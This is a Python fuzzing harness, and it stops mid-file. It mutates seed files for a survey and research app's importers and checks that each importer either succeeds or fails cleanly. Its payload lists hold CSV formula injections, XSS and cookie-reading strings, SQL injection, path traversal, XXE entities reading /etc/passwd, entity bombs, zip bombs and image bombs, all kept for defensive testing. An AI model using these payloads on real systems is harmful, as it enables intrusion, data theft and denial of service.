"""Hostile files: every importer ends in success or a clear UserError, never a crash or half-write.

    .venv/bin/python benchmarks/fuzz_importers.py [--cases 12000] [--seed 1] [--timeout 10]
        [--targets xlsform,limesurvey,...] [--workers 1] [--no-write]

Builds valid seed files of every kind Opit imports (XLSForm from the demo questionnaire and a form
of every question type; LimeSurvey .lss and .lsa with responses; CSV and XLSX response exports;
WebVTT, SRT, plain text and Word transcripts; a REFI-QDA codebook; the demo's journey JSON with a
screenshot; a logical and a SQLite backup; plus the public samples in ../shared/data when present),
then mutates them, case by case, from a fixed seed: bit flips, byte changes, truncation, chunk
duplication and deletion, splices, zip members mutated and re-zipped, zip bombs, path-traversal and
duplicate members, XML entity bombs, external entities and deep nesting, formula strings,
HTML/script payloads, huge cells, wrong encodings, JSON turned inside out, and image bombs.

Each case runs in a worker process with a per-case timeout (a hang) and a memory limit, through
the same calls the app and the command line make: the reader, then the store in one
`database.write()` for the importers that write (questionnaire files, response files, transcripts,
codebooks, journeys) and `restore` into an empty database for backups. A case passes when it
succeeds or raises `i18n.UserError` whose message renders in Bulgarian and English, and, when it
raised, the database is exactly as it was (row count and highest rowid of every table). Failing
inputs are saved to benchmarks/out/fuzz-failures/. Writes the `fuzz` section of
benchmarks/RESULTS.md (not with --no-write); exits 1 when any case failed.
"""

from __future__ import annotations

import argparse
import base64
import collections
import contextlib
import hashlib
import io
import json
import multiprocessing
import os
import random
import resource
import shutil
import sqlite3
import sys
import tempfile
import threading
import time
import traceback
import warnings
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path[:0] = [str(ROOT), str(ROOT / "benchmarks")]

from _results import write_section  # noqa: E402

SHARED = ROOT.parent / "shared" / "data"
OUT = ROOT / "benchmarks" / "out" / "fuzz-failures"
MEMORY_LIMIT = 3 * 1024**3
MAX_UPLOAD = 20 * 1024 * 1024  # OPIT_MAX_UPLOAD_MB's default (MiB, as surveys.safe_files)
FAILURES = ("crash", "hang", "partial-write", "bad-message")
TARGETS = (
    "xlsform",
    "limesurvey",
    "responses",
    "transcript",
    "codebook",
    "journey",
    "backup",
)


@dataclass(frozen=True)
class Case:
    index: int
    target: str
    filename: str
    data: bytes
    mutation: str


@dataclass
class Result:
    case: Case
    status: str  # ok, user-error, crash, hang, partial-write, bad-message
    detail: str = ""
    where: str = ""
    seconds: float = 0.0


# ---- seeds -------------------------------------------------------------------------------------


def member(name: str, compression: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    """A zip member with a fixed date, so that the same case gives the same bytes."""
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = compression
    return info


def zipped(files: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(member(name, compression), content)
    return buffer.getvalue()


def rich_definition():
    """A questionnaire with every question type, sections, choices, 'other' and skip logic."""
    from surveys.definition import (
        Choice,
        Condition,
        Operator,
        Question,
        QuestionnaireDefinition,
        QuestionType,
        Section,
    )

    def both(bg: str, en: str) -> dict[str, str]:
        return {"bg": bg, "en": en}

    yes_no = (Choice("yes", both("Да", "Yes")), Choice("no", both("Не", "No")))
    channels = tuple(Choice(c, both(c.upper(), c)) for c in ("online", "office", "phone"))
    return QuestionnaireDefinition(
        title=both("Всички видове въпроси", "Every kind of question"),
        description=both("За проверка", "For checking"),
        sections=(Section("first", both("Начало", "Start")), Section("rest", both("Още", "More"))),
        questions=(
            Question("intro", QuestionType.NOTE, both("Добре дошли", "Welcome"), section="first"),
            Question(
                "used", QuestionType.SINGLE_CHOICE, both("Ползвахте ли?", "Used it?"),
                required=True, choices=yes_no, section="first",
            ),
            Question(
                "how", QuestionType.MULTIPLE_CHOICE, both("Как?", "How?"), choices=channels,
                allow_other=True, section="first",
                show_when=(Condition("used", Operator.EQUALS, "yes"),),
            ),
            Question("age", QuestionType.NUMBER, both("Възраст", "Age"), minimum=16, maximum=120,
                     section="rest"),
            Question("when", QuestionType.DATE, both("Кога?", "When?"), section="rest"),
            Question("ease", QuestionType.LIKERT5, both("Лесно?", "Easy?"), section="rest"),
            Question("seven", QuestionType.LIKERT7, both("Ясно?", "Clear?"), section="rest"),
            Question("nps", QuestionType.NPS, both("Препоръка?", "Recommend?"), section="rest"),
            Question("seq", QuestionType.SEQ, both("Трудност?", "Difficulty?"), section="rest"),
            Question("sus", QuestionType.SUS, both("SUS", "SUS"), section="rest"),
            Question("name", QuestionType.SHORT_TEXT, both("Квартал", "District"), max_length=80,
                     section="rest"),
            Question("more", QuestionType.LONG_TEXT, both("Още?", "More?"), section="rest"),
        ),
    )  # fmt: skip


def _lime_rows(section: str, rows: list[dict[str, str]]) -> str:
    fields = "".join(f"<fieldname>{k}</fieldname>" for k in rows[0])
    body = "".join(
        "<row>" + "".join(f"<{k}><![CDATA[{v}]]></{k}>" for k, v in row.items()) + "</row>"
        for row in rows
    )
    return f"<{section}><fields>{fields}</fields><rows>{body}</rows></{section}>\n"


def lime_survey() -> bytes:
    """A LimeSurvey 3 survey structure: a list with 'other', a multiple choice, text, number."""
    base = {"parent_qid": "0", "sid": "111", "gid": "1", "relevance": "1", "help": "",
            "language": "bg", "mandatory": "N", "other": "N"}  # fmt: skip
    questions = [
        {**base, "qid": "5", "type": "L", "title": "color", "question": "Цвят?", "other": "Y",
         "question_order": "0", "mandatory": "Y"},
        {**base, "qid": "6", "type": "M", "title": "where", "question": "Къде?",
         "question_order": "1"},
        {**base, "qid": "7", "type": "T", "title": "why", "question": "Защо?",
         "question_order": "2", "relevance": "((color.NAOK == \"r\"))"},
        {**base, "qid": "8", "type": "N", "title": "age", "question": "Възраст?",
         "question_order": "3"},
    ]  # fmt: skip
    subquestions = [
        {**base, "qid": str(20 + i), "parent_qid": "6", "type": "T", "title": code,
         "question": label, "question_order": str(i)}
        for i, (code, label) in enumerate([("SQ1", "Онлайн"), ("SQ2", "На гише")])
    ]  # fmt: skip
    answers = [
        {"qid": "5", "code": code, "answer": label, "sortorder": str(i), "language": "bg",
         "scale_id": "0"}
        for i, (code, label) in enumerate([("r", "Червен"), ("g", "Зелен")])
    ]  # fmt: skip
    xml = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<document>\n'
        "<LimeSurveyDocType>Survey</LimeSurveyDocType><DBVersion>366</DBVersion>\n"
        "<languages><language>bg</language></languages>\n"
        + _lime_rows("answers", answers)
        + _lime_rows(
            "groups",
            [{"gid": "1", "group_name": "Група", "group_order": "0", "language": "bg"}],
        )
        + _lime_rows("questions", questions)
        + _lime_rows("subquestions", subquestions)
        + _lime_rows("surveys", [{"sid": "111", "language": "bg"}])
        + _lime_rows(
            "surveys_languagesettings",
            [
                {
                    "surveyls_survey_id": "111",
                    "surveyls_language": "bg",
                    "surveyls_title": "Анкета",
                    "surveyls_description": "<p>За <b>теста</b></p>",
                }
            ],
        )
        + "</document>\n"
    )
    return xml.encode("utf-8")


def lime_archive() -> bytes:
    responses = (
        '<?xml version="1.0" encoding="UTF-8"?><document>'
        "<LimeSurveyDocType>Responses</LimeSurveyDocType><responses><fields>"
        "<fieldname>id</fieldname><fieldname>submitdate</fieldname>"
        "<fieldname>111X1X5</fieldname><fieldname>111X1X5other</fieldname>"
        "<fieldname>111X1X6SQ1</fieldname><fieldname>111X1X7</fieldname>"
        "<fieldname>111X1X8</fieldname></fields><rows>"
        "<row><id>7</id><submitdate>2026-03-01 10:00:00</submitdate><_111X1X5>r</_111X1X5>"
        "<_111X1X6SQ1>Y</_111X1X6SQ1><_111X1X7>Бързо</_111X1X7><_111X1X8>34</_111X1X8></row>"
        "<row><id>8</id><submitdate>2026-03-02 11:00:00</submitdate><_111X1X5>-oth-</_111X1X5>"
        "<_111X1X5other>Син</_111X1X5other></row>"
        "</rows></responses></document>"
    ).encode()
    return zipped({"survey_111.lss": lime_survey(), "survey_111_responses.lsr": responses})


VTT = """WEBVTT

1
00:00:01.120 --> 00:00:04.560
<v Интервюиращ>Здравейте! Разкажете как сменихте адреса си.</v>

2
00:00:05.000 --> 00:00:09.800
<v P-003>Опитах онлайн, през сайта на Столична община.</v>

3
00:00:09.800 --> 00:00:14.250
<v P-003>Но входът с КЕП не проработи &amp; отидох на гише.</v>
"""
SRT = """1
00:00:01,000 --> 00:00:04,000
Интервюиращ: Как подадохте заявлението?

2
00:00:04,500 --> 00:00:09,000
P-003: Започнах от портала за електронни услуги.
"""
PLAIN = """Интервю с P-003 — промяна на адресна регистрация

Интервюиращ: [00:00:05] Разкажете как започнахте.
P-003: [00:00:12] Отворих сайта и търсих формуляра.
Интервюиращ: Намерихте ли го?
P-003: След известно време — да.
"""


def docx(*paragraphs: str) -> bytes:
    from xml.sax.saxutils import escape

    body = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(p)}</w:t></w:r></w:p>' for p in paragraphs
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}<w:sectPr/></w:body></w:document>"
    )
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"/>'
    )
    return zipped({"[Content_Types].xml": types, "word/document.xml": document})


def codebook_qdc() -> bytes:
    from research.codebook import Codebook, Tag
    from research.qdc import export_qdc

    tags = (
        Tag("k-online", "Онлайн", None, "Всичко онлайн", "#0B5CAB"),
        Tag("k-login", "Вход с КЕП", "k-online", "Проблеми с входа"),
        Tag("k-office", "Гише", None, "", "#AA3300", codable=False),
        Tag("k-queue", "Опашка", "k-office"),
    )
    return export_qdc(Codebook(tags))


def _png(width: int = 8, height: int = 8) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (11, 92, 171)).save(buffer, "PNG")
    return buffer.getvalue()


def journey_json(database) -> bytes:
    from prototypes.exchange import dumps
    from prototypes.repository_exchange import read_document

    with database.read() as session:
        data = json.loads(dumps(read_document(session, "moving-home")))
    data["life_event"]["slug"] = "moving-home-fuzz"
    for n, proto in enumerate(data["prototypes"]):
        proto["slug"] = f"{proto['slug']}-fuzz{n}"
    data["prototypes"][0]["screenshots"] = [
        {
            "filename": "start.png",
            "content_type": "image/png",
            "iteration": data["prototypes"][0]["iterations"][0]["number"],
            "data": base64.b64encode(_png()).decode("ascii"),
        }
    ]
    return json.dumps(data, ensure_ascii=False, indent=1).encode("utf-8")


@dataclass
class Workspace:
    """The folder of a fuzz run: seed files and the databases the cases write to."""

    folder: Path
    seeds: dict[str, list[tuple[str, bytes]]] = field(default_factory=dict)

    @property
    def template(self) -> Path:  # the demo project, migrated
        return self.folder / "template.db"

    @property
    def empty(self) -> Path:  # migrated, no rows (backups restore into a copy)
        return self.folder / "empty.db"


def build_workspace(folder: Path, shared: Path | None = SHARED) -> Workspace:
    """Prepare the databases and every seed file."""
    from prototypes.demo import demo_questionnaire, load_demo
    from storage.backup import backup
    from storage.db import connect, forget
    from storage.migrate import upgrade
    from surveys.exports import export_bytes
    from surveys.repository import questionnaire_by_slug, response_rows
    from surveys.xlsform_export import write_xlsform

    work = Workspace(folder)
    for path, demo in ((work.empty, False), (work.template, True)):
        url = f"sqlite:///{path}"
        database = connect(url)
        upgrade(database)
        if demo:
            load_demo(database)
        forget(url)
    database = connect(f"sqlite:///{work.template}")
    with database.read() as session:
        from storage.schema import Questionnaire

        slug = session.query(Questionnaire.slug).filter(Questionnaire.status == "open").scalar()
        info = questionnaire_by_slug(session, slug)
        rows = response_rows(session, info.id)
    definition = info.definition
    seeds = work.seeds
    seeds["xlsform"] = [
        ("demo.xlsx", write_xlsform(demo_questionnaire())),
        ("rich.xlsx", write_xlsform(rich_definition())),
    ]
    seeds["limesurvey"] = [("inline.lss", lime_survey()), ("inline.lsa", lime_archive())]
    seeds["responses"] = [  # Opit's own exports; by labels, SUS statements are not mapped back
        ("names.csv", export_bytes(definition, rows[:40], "en", "csv", headers="names")),
        ("names.xlsx", export_bytes(definition, rows[:40], "en", "xlsx", headers="names")),
        ("labels.csv", export_bytes(definition, rows[:40], "bg", "csv")),
    ]
    seeds["transcript"] = [
        ("teams.vtt", VTT.encode()),
        ("zoom.srt", SRT.encode("cp1251")),
        ("notes.txt", PLAIN.encode()),
        ("interview.docx", docx(*PLAIN.splitlines())),
    ]
    seeds["codebook"] = [("codes.qdc", codebook_qdc())]
    seeds["journey"] = [("moving-home.json", journey_json(database))]
    seeds["backup"] = []
    for name in ("backup.zip", "backup.db"):
        backup(database, folder / name)
        seeds["backup"].append((name, (folder / name).read_bytes()))
    forget(f"sqlite:///{work.template}")
    if shared is not None and shared.is_dir():
        for path in sorted((shared / "limesurvey-rc2api").glob("*.ls[sa]")):
            seeds["limesurvey"].append((path.name, path.read_bytes()))
        for path in sorted((shared / "xlsform-pyxform").rglob("*.xls*"))[:30]:
            seeds["xlsform"].append((path.name, path.read_bytes()))
    return work


# ---- mutations ---------------------------------------------------------------------------------

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(document.cookie)">',
    "javascript:alert(1)",
    "{{7*7}} ${7*7} %(x)s {0} {name}",
    "'; DROP TABLE responses; --",
    "\u202egnp.exe",
    "\x00\x01\x02\x1b[31m",
    "ЕГН 7501010010, тел. 0888 123 456",
    "NaN",
    "1e309",
    "-0",
    "9" * 400,
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    "../../../../etc/passwd",
    "\r\n\r\n",
    '"',
    "\t" * 50,
)
XML_ATTACKS = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;'
    '&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;'
    '&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;'
    '&e;&e;&e;&e;">]><document>&f;&f;&f;&f;&f;&f;&f;&f;</document>',
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<document>&x;</document>",
    '<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://127.0.0.1:1/evil.dtd"><document/>',
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]><d/>',
)
ENCODINGS = ("utf-16-le", "utf-16", "utf-32", "cp1251", "latin-1", "koi8-r", "utf-8-sig")


class Mutator:
    """Deterministic mutations of a seed file; each returns (data, name of the mutation)."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    # bytes ---------------------------------------------------------------------------------
    def bitflip(self, data: bytes) -> bytes:
        out = bytearray(data or b"\0")
        for _ in range(self.rng.choice((1, 1, 2, 4, 8, 32))):
            i = self.rng.randrange(len(out))
            out[i] ^= 1 << self.rng.randrange(8)
        return bytes(out)

    def set_bytes(self, data: bytes) -> bytes:
        out = bytearray(data or b"\0")
        for _ in range(self.rng.randint(1, 16)):
            out[self.rng.randrange(len(out))] = self.rng.choice((0, 0xFF, 0x7F, 0x80, 0x3C, 0x22))
        return bytes(out)

    def truncate(self, data: bytes) -> bytes:
        return data[: self.rng.choice((0, 1, 2, 4, self.rng.randrange(len(data) + 1)))]

    def duplicate_chunk(self, data: bytes) -> bytes:
        if not data:
            return data * 2
        start = self.rng.randrange(len(data))
        chunk = data[start : start + self.rng.randint(1, 4096)]
        at = self.rng.randrange(len(data) + 1)
        return data[:at] + chunk * self.rng.choice((1, 2, 16, 1000)) + data[at:]

    def delete_chunk(self, data: bytes) -> bytes:
        if not data:
            return data
        start = self.rng.randrange(len(data))
        return data[:start] + data[start + self.rng.randint(1, 2048) :]

    def insert_random(self, data: bytes) -> bytes:
        at = self.rng.randrange(len(data) + 1)
        return data[:at] + self.rng.randbytes(self.rng.choice((1, 8, 256, 65536))) + data[at:]

    def splice(self, data: bytes, other: bytes) -> bytes:
        return (
            data[: self.rng.randrange(len(data) + 1)] + other[self.rng.randrange(len(other) + 1) :]
        )

    def byte_mutation(self, data: bytes) -> tuple[bytes, str]:
        name = self.rng.choice(
            ("bitflip", "set_bytes", "truncate", "duplicate_chunk", "delete_chunk", "insert_random")
        )
        return getattr(self, name)(data), name

    # text ----------------------------------------------------------------------------------
    def payload(self, text: str) -> tuple[str, str]:
        kind = self.rng.choice(("payload", "payload", "huge_cell", "long_line", "many_lines"))
        at = self.rng.randrange(len(text) + 1)
        if kind == "payload":
            insert = self.rng.choice(PAYLOADS)
        elif kind == "huge_cell":
            insert = "Ж" * self.rng.choice((70_000, 1_000_000, 3_000_000))
        elif kind == "long_line":
            insert = ("дълъг ред " * 20_000).strip()
        else:
            insert = "\n".join(self.rng.choice(PAYLOADS) for _ in range(20_000))
        return text[:at] + insert + text[at:], kind

    def csv_structure(self, text: str) -> tuple[str, str]:
        lines = text.splitlines() or [""]
        kind = self.rng.choice(("columns", "quotes", "delimiter", "rows", "ragged"))
        if kind == "columns":
            lines[0] = lines[0] + ",".join(f"col{i}" for i in range(self.rng.choice((300, 20_000))))
        elif kind == "quotes":
            i = self.rng.randrange(len(lines))
            lines[i] = '"' + lines[i] + '\n"",,"'
        elif kind == "delimiter":
            swap = self.rng.choice((";", "\t", "|", "\x00", "\u00a0"))
            lines = [line.replace(",", swap) for line in lines]
        elif kind == "rows":
            times = min(self.rng.choice((50, 3000)), 1 + MAX_UPLOAD // (len(text) + 1))
            lines += lines[1:] * times
        else:
            lines = [line + ",x" * self.rng.randrange(5) for line in lines]
        return "\n".join(lines), f"csv_{kind}"

    def json_structure(self, text: str) -> tuple[str, str]:
        try:
            doc = json.loads(text)
        except (ValueError, RecursionError):
            return text, "json_unparsed"
        kind = self.rng.choice(("replace", "replace", "delete", "grow", "deep", "numbers"))
        if kind == "deep":
            depth = self.rng.choice((500, 5000, 200_000))
            return "[" * depth + "1" + "]" * depth, "json_deep"
        nodes: list[tuple[object, object]] = []
        todo = [doc]
        while todo and len(nodes) < 100_000:
            node = todo.pop()
            if not isinstance(node, dict | list):
                continue
            for key in list(node) if isinstance(node, dict) else range(len(node)):
                nodes.append((node, key))
                todo.append(node[key])
        if not nodes:
            return json.dumps(self.rng.choice(([], {}, None, "x"))), "json_replace"
        parent, key = self.rng.choice(nodes)
        if kind == "delete":
            del parent[key]
        elif kind == "grow":
            parent[key] = [parent[key]] * self.rng.choice((2, 1000, 50_000))
        elif kind == "numbers":
            parent[key] = self.rng.choice((10**400, -1, 0, 2**63, 1.5, float("nan"), float("inf")))
        else:
            parent[key] = self.rng.choice(
                (
                    None,
                    True,
                    0,
                    -7,
                    "",
                    "x" * 100_000,
                    [],
                    {},
                    {"a": [1, {}]},
                    ["x"] * 10,
                    *PAYLOADS,
                )
            )
        return json.dumps(doc, ensure_ascii=self.rng.random() < 0.3), f"json_{kind}"

    def xml_attack(self, text: str) -> tuple[str, str]:
        kind = self.rng.choice(("entities", "deep", "huge_attribute", "prepend_doctype", "cdata"))
        if kind == "entities":
            return self.rng.choice(XML_ATTACKS), "xml_entities"
        if kind == "prepend_doctype":
            doctype = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            body = text.split("?>", 1)[-1]
            return '<?xml version="1.0"?>' + doctype + body.replace("<", "&x;<", 1), "xml_xxe"
        at = text.find(">", text.find("<", text.find("?>") + 2)) + 1
        if kind == "deep":
            depth = self.rng.choice((1000, 100_000))
            insert = "<a>" * depth + "</a>" * depth
        elif kind == "huge_attribute":
            insert = f'<a b="{"x" * 5_000_000}"/>'
        else:
            insert = "<![CDATA[" + self.rng.choice(PAYLOADS) + "]]>]]>"
        return text[:at] + insert + text[at:], f"xml_{kind}"

    def text_mutation(self, data: bytes, filename: str) -> tuple[bytes, str]:
        """A mutation that knows the text format, re-encoded (sometimes in a wrong encoding)."""
        text = (
            data.decode("utf-8", "replace")
            if not filename.endswith(".srt")
            else data.decode("cp1251", "replace")
        )
        suffix = Path(filename).suffix.lower()
        choices = ["payload", "encoding"]
        if suffix in (".csv",):
            choices += ["csv", "csv"]
        if suffix in (".json",):
            choices += ["json", "json", "json"]
        if suffix in (".lss", ".lsr", ".qdc", ".xml") or text.lstrip().startswith("<?xml"):
            choices += ["xml", "xml"]
        kind = self.rng.choice(choices)
        if kind == "encoding":
            encoding = self.rng.choice(ENCODINGS)
            if self.rng.random() < 0.3:  # half in one encoding, half in another
                half = len(text) // 2
                return text[:half].encode("utf-8") + text[half:].encode(
                    encoding, "replace"
                ), f"encoding_mixed_{encoding}"
            return text.encode(encoding, "replace"), f"encoding_{encoding}"
        if kind == "csv":
            text, name = self.csv_structure(text)
        elif kind == "json":
            text, name = self.json_structure(text)
        elif kind == "xml":
            text, name = self.xml_attack(text)
        else:
            text, name = self.payload(text)
        return text.encode("utf-8", "surrogatepass"), name

    # zip -----------------------------------------------------------------------------------
    def zip_mutation(self, data: bytes, filename: str) -> tuple[bytes, str]:
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                infos = archive.infolist()
                if sum(i.file_size for i in infos) > 50_000_000 or len(infos) > 5000:
                    return self.byte_mutation(data)
                members = {i.filename: archive.read(i) for i in infos}
        except Exception:  # a zip broken by an earlier mutation: mutate its bytes
            return self.byte_mutation(data)
        kind = self.rng.choice(
            ("member", "member", "member", "member", "bomb", "traversal", "many", "duplicate",
             "encrypted_flag", "lie_size", "stored", "drop")
        )  # fmt: skip
        names = list(members)
        if kind == "member" and names:
            name = self.rng.choice(names)
            content = members[name]
            is_text = name.endswith((".xml", ".json", ".jsonl", ".lss", ".lsr", ".rels", ".txt"))
            if is_text and self.rng.random() < 0.7:
                members[name], how = self.text_mutation(content, name)
            else:
                members[name], how = self.byte_mutation(content)
            return zipped(members), f"zip_member_{how}"
        if kind == "bomb":
            name = self.rng.choice(names) if names else "x.xml"
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
                for other, content in members.items():
                    if other != name:
                        archive.writestr(member(other), content)
                with archive.open(member(name), "w", force_zip64=True) as handle:
                    block = b"\0" * (1024 * 1024)
                    for _ in range(self.rng.choice((30, 120))):
                        handle.write(block)
            return buffer.getvalue(), "zip_bomb"
        if kind == "traversal":
            members["../../../../tmp/opit-fuzz-evil.txt"] = b"evil"
            members["/abs/evil.xml"] = b"<x/>"
            return zipped(members), "zip_traversal"
        if kind == "many":
            for i in range(self.rng.choice((2000, 20_000))):
                members[f"junk/{i}.xml"] = b"<x/>"
            return zipped(members, zipfile.ZIP_STORED), "zip_many_members"
        if kind == "duplicate" and names:
            warnings.filterwarnings("ignore", "Duplicate name", UserWarning)
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w") as archive:
                for name, content in members.items():
                    archive.writestr(member(name), content)
                archive.writestr(member(self.rng.choice(names)), b"<duplicate/>")
            return buffer.getvalue(), "zip_duplicate_member"
        if kind == "encrypted_flag":
            out = bytearray(data)
            for marker in (b"PK\x03\x04", b"PK\x01\x02"):
                at = out.find(marker)
                while at != -1:
                    flag_at = at + (6 if marker == b"PK\x03\x04" else 8)
                    out[flag_at] |= 1
                    at = out.find(marker, at + 4)
            return bytes(out), "zip_encrypted_flag"
        if kind == "lie_size":
            out = bytearray(data)
            at = out.find(b"PK\x01\x02")
            if at != -1:
                out[at + 24 : at + 28] = (0xFFFFFFF0).to_bytes(4, "little")
            return bytes(out), "zip_lying_size"
        if kind == "stored":
            return zipped(members, zipfile.ZIP_STORED), "zip_stored"
        if names:
            del members[self.rng.choice(names)]
        return zipped(members), "zip_drop_member"

    def image_bomb(self, data: bytes) -> tuple[bytes, str]:
        """A journey whose screenshot is a tiny PNG declaring a huge image."""
        try:
            doc = json.loads(data)
            shot = doc["prototypes"][0]["screenshots"][0]
        except (ValueError, KeyError, IndexError, TypeError, RecursionError):
            return data, "image_bomb_skipped"
        width, height = self.rng.choice(((30_000, 30_000), (100_000, 1), (65_535, 65_535)))
        raw = zlib.compress(b"\0" * 1024)
        head = b"\x89PNG\r\n\x1a\n"
        ihdr = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes((8, 2, 0, 0, 0))

        def chunk(kind: bytes, body: bytes) -> bytes:
            crc = zlib.crc32(kind + body).to_bytes(4, "big")
            return len(body).to_bytes(4, "big") + kind + body + crc

        png = head + chunk(b"IHDR", ihdr) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")
        shot["data"] = base64.b64encode(png).decode("ascii")
        return json.dumps(doc).encode(), "image_bomb"

    # one case ------------------------------------------------------------------------------
    def mutate(self, target: str, filename: str, data: bytes, other: bytes) -> tuple[bytes, str]:
        is_zip = data[:2] == b"PK"
        steps = []
        for _ in range(self.rng.choice((1, 1, 1, 2, 3))):
            roll = self.rng.random()
            if target == "journey" and roll < 0.05:
                data, name = self.image_bomb(data)
            elif is_zip and roll < 0.6:
                data, name = self.zip_mutation(data, filename)
            elif not is_zip and data[:6] != b"SQLite" and roll < 0.6:
                data, name = self.text_mutation(data, filename)
            elif roll < 0.95:
                data, name = self.byte_mutation(data)
            else:
                data, name = self.splice(data, other), "splice"
            steps.append(name)
            if len(data) > 2 * MAX_UPLOAD:  # keep stacked mutations within reach of the limit
                data = data[: 2 * MAX_UPLOAD]
        return data, "+".join(steps)


def make_case(work: Workspace, index: int, seed: int, targets: tuple[str, ...]) -> Case:
    rng = random.Random(f"{seed}:{index}")
    cycle = list(targets)
    if "backup" in targets and len(targets) > 1:  # a restore costs ~1 s: half as many of them
        cycle += [t for t in targets if t != "backup"]
    target = cycle[index % len(cycle)]
    seeds = work.seeds[target]
    filename, data = rng.choice(seeds)
    other = rng.choice([d for seeds_ in work.seeds.values() for _, d in seeds_])
    if rng.random() < 0.03:  # the seed as it is: must import
        return Case(index, target, filename, data, "none")
    data, mutation = Mutator(rng).mutate(target, filename, data, other)
    if len(data) > MAX_UPLOAD:  # the app refuses a larger upload before any importer sees it
        data, mutation = data[:MAX_UPLOAD], mutation + "+cut_to_upload_limit"
    if rng.random() < 0.03:  # a file under another kind's name
        filename = rng.choice(["x.xlsx", "x.xls", "x.lss", "x.lsa", "x.csv", "x.docx", "x.vtt"])
        mutation += "+renamed"
    return Case(index, target, filename, data, mutation)


# ---- the importers, as the app calls them (run in the worker) ----------------------------------


def fingerprint(path: Path) -> dict[str, tuple[int, int]]:
    """Row count and highest rowid of every table: what a partial write would change."""
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        return {
            t: tuple(
                conn.execute(f'SELECT count(*), coalesce(max(rowid), 0) FROM "{t}"').fetchone()
            )
            for t in tables
            if not t.startswith("sqlite_")
        }
    finally:
        conn.close()


class PartialWrite(Exception):
    pass


class Importers:
    """Each importer as the app runs it; the writing ones inside one `database.write()`."""

    def __init__(self, work: Workspace) -> None:
        from storage.db import connect

        self.work = work
        self.db_path = work.folder / f"work-{os.getpid()}.db"
        self.url = f"sqlite:///{self.db_path}"
        self.dirty = True
        database = connect(f"sqlite:///{work.template}")
        with database.read() as session:
            from sqlalchemy import select

            from storage.schema import InterviewSession, Questionnaire

            self.questionnaire_id, self.slug = session.execute(
                select(Questionnaire.id, Questionnaire.slug).where(Questionnaire.status == "open")
            ).one()
            self.interview_id = session.scalar(select(InterviewSession.id).limit(1))

    def database(self):
        from storage.db import connect, forget

        if self.dirty:
            forget(self.url)
            for suffix in ("", "-wal", "-shm"):
                Path(f"{self.db_path}{suffix}").unlink(missing_ok=True)
            shutil.copy(self.work.template, self.db_path)
            self.dirty = False
        return connect(self.url)

    def stored(self, store) -> None:
        """Run `store(session)` in one write transaction; on an error nothing may have changed."""
        from i18n import UserError

        database = self.database()
        before = fingerprint(self.db_path)
        try:
            with database.write() as session:
                store(session)
        except UserError:
            if fingerprint(self.db_path) != before:
                self.dirty = True
                raise PartialWrite("the database changed although the import was refused") from None
            raise
        except BaseException:
            self.dirty = True
            raise
        self.dirty = True

    def run(self, target: str, data: bytes, filename: str) -> None:
        getattr(self, target.replace("-", "_"))(data, filename)

    def xlsform(self, data: bytes, filename: str) -> None:
        from surveys.form_files import read_form_file
        from surveys.repository_imports import import_form

        form = read_form_file(data, filename)
        self.stored(lambda session: import_form(session, form, "fuzz-form"))

    limesurvey = xlsform

    def responses(self, data: bytes, filename: str) -> None:
        from surveys.repository import questionnaire_by_id
        from surveys.repository_imports import import_mapped_responses
        from surveys.response_files import (
            map_responses,
            read_response_table,
            suggest_id_column,
            suggest_mapping,
        )

        table = read_response_table(data, filename)
        with self.database().read() as session:
            definition = questionnaire_by_id(session, self.questionnaire_id).definition
        mapping = suggest_mapping(table, definition)
        if not mapping:
            return
        mapped = map_responses(
            table, definition, mapping, suggest_id_column(table), questionnaire_key=self.slug
        )
        skip = hashlib.sha256(data).digest()[0] % 2 == 0
        self.stored(
            lambda session: import_mapped_responses(
                session, self.questionnaire_id, mapped, mapping, filename=filename,
                skip_invalid=skip,
            )
        )  # fmt: skip

    def transcript(self, data: bytes, filename: str) -> None:
        from research.repository_transcripts import import_transcript
        from research.transcripts import read_transcript

        transcript = read_transcript(data, filename)
        names = {speaker: f"P-{n}" for n, speaker in enumerate(transcript.speakers, start=1)}
        self.stored(
            lambda session: import_transcript(
                session, self.interview_id, transcript, names, title=filename
